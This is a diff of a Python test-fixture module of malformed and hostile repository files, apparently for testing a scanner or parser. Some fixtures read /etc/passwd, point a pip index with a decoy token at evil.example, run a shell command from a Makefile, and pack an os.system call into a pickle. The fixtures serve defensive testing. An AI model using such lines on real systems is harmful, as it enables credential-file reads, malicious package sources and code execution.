@@ -5,7 +5,7 @@ import json
 from tests.hostile.building import files_case
 
 _K = 1_000
-_SKLEARN = "import sklearn\n"
+_ALL = "+".join(f"f{number}(x)" for number in range(60))
 
 PYTHON: dict[str, str | bytes] = {
     "parentheses": "x = " + "(" * 5_000 + ")" * 5_000,
@@ -43,7 +43,7 @@ PYTHON: dict[str, str | bytes] = {
     "addresses of 200 kb": "x = '" + "a.b-" * 50_000 + "@'\n",
     "decorators": "@a\n" * 5_000 + "def f(): pass\n",
     "ten thousand functions": "".join(f"def f{number}(a, b): return f{number - 1}(a, b)\n" for number in range(10_000)),
-    "functions that call all": "".join(f"def f{number}(x): return " + "+".join(f"f{other}(x)" for other in range(60)) + "\n" for number in range(60)),
+    "functions that call all": "".join(f"def f{number}(x): return {_ALL}\n" for number in range(60)),
     "import of itself": "from train import *\nfrom . import a\nimport a\nfrom ..... import b\n",
     "class of itself": "class A(A): pass\nclass B(C): pass\nclass C(B): pass\nx = A().fit(A())\n",
     "value of itself": "x = x.fit(x)\nfor _ in x:\n    x = x.fit(x.y(x))\n" * 300,
@@ -92,15 +92,15 @@ NOTEBOOKS: dict[str, object] = {
     "format is a word": _cells(_code(), nbformat="4"),
     "format is true": _cells(_code(), nbformat=True),
     "format of tomorrow": _cells(_code(), nbformat=99),
-    "format 3 with odd levels": {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "heading", "level": "1", "source": "x"}, {"input": 1}]}, None]},
+    "format 3 with odd levels": {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "heading", "level": "1"}, {"input": 1}]}, None]},
     "kernel is a word": _cells(_code(), metadata={"kernelspec": "python", "language_info": 7}),
     "bom": b"\xef\xbb\xbf" + json.dumps(_cells(_code())).encode(),
     "utf 16": json.dumps(_cells(_code())).encode("utf-16"),
     "nested 900 deep": ('{"nbformat":4,"cells":[],"metadata":{"a":' + _deep(900) + "}}").encode(),
     "nested 100,000 deep": _deep(100_000).encode(),
-    "digits": ('{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"code","execution_count":' + "9" * 6_000 + "}]}").encode(),
-    "no number": b'{"nbformat": 4, "nbformat_minor": NaN, "metadata": {}, "cells": [{"cell_type": "code", "execution_count": Infinity}]}',
-    "lone surrogates": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "markdown", "source": ["# \\ud800 accuracy 0.9"]}]}',
+    "digits": ('{"nbformat":4,"metadata":{},"cells":[{"cell_type":"code","execution_count":' + "9" * 6_000 + "}]}").encode(),
+    "no number": b'{"nbformat": 4, "nbformat_minor": NaN, "cells": [{"cell_type": "code", "execution_count": Infinity}]}',
+    "lone surrogates": b'{"nbformat": 4, "cells": [{"cell_type": "markdown", "source": ["# \\ud800 accuracy 0.9"]}]}',
     "same keys": b'{"nbformat": 4, "nbformat": 3, "cells": [], "cells": [{"cell_type": "code", "source": "x = ("}]}',
     "ten thousand cells": _cells(*[_code(id="same") for _ in range(10_000)]),
     "outputs of 12 mb": _cells(_code(outputs=[{"output_type": "stream", "name": "stdout", "text": ["x" * 1_000_000] * 12}])),
@@ -126,13 +126,14 @@ YAML: dict[str, str | bytes] = {
     "templates": "on: {{ .Values.x }}\njobs: {{ x }}\n",
     "odd keys": "? [a, b]\n: c\n? {d: e}\n: f\n1: 2\nnull: x\ntrue: y\n",
     "jobs of odd shape": "on: [push, 7, {a: b}]\njobs: [1, 2]\n",
-    "steps of odd shape": "on: {push: 7}\njobs: {a: {steps: {b: c}}, d: [e], f: null, g: {steps: [1, null, [x], {run: [y], uses: {z: 1}}]}}\n",
+    "steps of odd shape": "on: {push: 7}\njobs: {a: {steps: {b: c}}, d: [e], f: null, g: {steps: [1, null, {run: [y], uses: {z: 1}}]}}\n",
     "nulls": b"on: push\0\njobs: {}\n",
     "not utf 8": b"on: push # \xff\xfe\n",
     "utf 16": "on: push\n".encode("utf-16"),
     "a quoted scalar without end": 'on: "' + "x\n" * 50_000,
 }
-_YAML_PLACES = (".github/workflows/ci.yml", "docker-compose.yml", "environment.yml", "dvc.yaml", ".pre-commit-config.yaml", "conf/config.yaml", ".gitlab-ci.yml", "params.yaml")
+_YAML_PLACES: tuple[str, ...] = (".github/workflows/ci.yml", "docker-compose.yml", "environment.yml", "dvc.yaml", ".gitlab-ci.yml")
+_YAML_PLACES += (".pre-commit-config.yaml", "conf/config.yaml", "params.yaml")
 
 TOML: dict[str, str | bytes] = {
     "nested": "x = " + _deep(2_000),
@@ -146,7 +147,9 @@ TOML: dict[str, str | bytes] = {
     "not utf 8": b"[project]\nname = '\xff'\n",
 }
 INI: dict[str, str | bytes] = {
-    "interpolation": "[options]\na = x\n" + "".join(f"b{n} = {'%(a)s' * 10 if n == 0 else f'%(b{n - 1})s' * 10}\n" for n in range(9)) + "install_requires = %(b8)s\n",
+    "interpolation": "[options]\nb0 = x\n"
+    + "".join(f"b{n} = {f'%(b{n - 1})s' * 10}\n" for n in range(1, 9))
+    + "install_requires = %(b8)s\n",
     "percent": "[options]\ninstall_requires = 100%\n",
     "no section": "x = 1\n" * 100,
     "brackets": "[" * 100_000 + "\n",
@@ -185,7 +188,7 @@ MARKDOWN: dict[str, str | bytes] = {
     "arabic and emoji": "# \u0645\u0634\u0631\u0648\u0639 \U0001f600\u200d\U0001f525\n" * 500,
 }
 REQUIREMENTS: dict[str, str | bytes] = {
-    "other files": "-r /etc/passwd\n-r requirements.txt\n-c ../../x\n-e .\n--index-url https://u:decoy-index-token@evil.example/\n-r https://evil.example/x\n",
+    "other files": "-r /etc/passwd\n-r requirements.txt\n-c ../../x\n-e .\n--index-url https://u:decoy-index-token@evil.example/\n",
     "a long line": "pandas" + "=" * 200_000 + "\n",
     "spaces": "pandas" + " " * 200_000 + ">1\n",
     "brackets": "pandas[" * 50_000,
@@ -198,7 +201,7 @@ REQUIREMENTS: dict[str, str | bytes] = {
 DOCKERFILES: dict[str, str | bytes] = {
     "continued": "FROM python\nRUN x \\\n" + " y \\\n" * 50_000,
     "heredoc": "FROM python\nRUN <<EOF\n" + "x\n" * 20_000,
-    "json": 'FROM python\nCMD ["' + '[' * 50_000 + "\n",
+    "json": 'FROM python\nCMD ["' + "[" * 50_000 + "\n",
     "stages": "FROM a AS b\nCOPY --from=b x y\n" * 5_000,
     "escape": "# escape=`\n# syntax=evil/x\nFROM python`\n",
     "binary": bytes(range(256)) * 400,
@@ -206,15 +209,25 @@ DOCKERFILES: dict[str, str | bytes] = {
 }
 OTHERS: dict[str, dict[str, str | bytes]] = {
     "makefile of odd lines": {"Makefile": "a:" * 50_000 + "\n\t" + "\\\n\t" * 50_000 + "$(shell touch HOSTILE)\ninclude /etc/passwd\n"},
-    "tables of odd shape": {"a.csv": '"' * 60_000, "b.csv": "," * 60_000, "c.tsv": b"\0" * 60_000, "d.csv": "x\r" * 30_000, "e.csv": b"\xff\xfea\0"},
+    "tables of odd shape": {
+        "a.csv": '"' * 60_000,
+        "b.csv": "," * 60_000,
+        "c.tsv": b"\0" * 60_000,
+        "d.csv": "x\r" * 30_000,
+        "e.csv": b"\xff\xfea\0",
+    },
     "shell script": {"run.sh": "$(" * 20_000 + "\n" + "python train.py && " * 5_000},
     "licence of one line": {"LICENSE": "MIT " * 100_000},
     "env of odd lines": {".env": "=" * 50_000 + "\nA" * 5_000 + "=x\n", ".env.example": b"\xff" * 5_000},
     "ignore file": {".gitignore": "**/" * 20_000 + "\n" + "[a-" * 10_000},
-    "procfile and setup": {"Procfile": "web: " * 5_000, "setup.py": "from setuptools import setup\nsetup(**{**{**{}}})\nsetup(" + "x=(" * 80 + ")" * 81},
-    "jenkins and nox": {"Jenkinsfile": "pipeline {" * 5_000, "noxfile.py": "@nox.session\n" * 500, "tox.ini": "[testenv]\ncommands = %(x)s {[testenv]commands}\n"},
-    "pipfile and locks": {"Pipfile": "[packages]\nx = {y = [1]}\n", "Pipfile.lock": "{" * 5_000, "poetry.lock": "[[package]]\n" * 20_000, "uv.lock": "x = 1\n"},
-    "not what they seem": {"Dockerfile.md": "# x", "train.ipynb.py": "{", "README": b"\x7fELF" * 100, "model.pkl": b"cos\nsystem\n(S'touch HOSTILE'\ntR."},
+    "procfile and setup": {"Procfile": "web: " * 5_000, "setup.py": "from setuptools import setup\nsetup(" + "x=(" * 80 + ")" * 81},
+    "jenkins and nox": {
+        "Jenkinsfile": "pipeline {" * 5_000,
+        "noxfile.py": "@nox.session\n" * 500,
+        "tox.ini": "[testenv]\ncommands = %(x)s\n",
+    },
+    "pipfile and locks": {"Pipfile": "[packages]\nx = {y = [1]}\n", "Pipfile.lock": "{" * 5_000, "poetry.lock": "[[package]]\n" * 20_000},
+    "not what they seem": {"Dockerfile.md": "# x", "train.ipynb.py": "{", "README": b"\x7fELF" * 100, "model.pkl": b"cos\nsystem\ntR."},
     "apple double": {"._train.py": b"\0\x05\x16\x07" * 100, "__MACOSX/._x.ipynb": b"\0\x05\x16\x07", ".DS_Store": b"\0\0\0\x01Bud1"},
 }
 
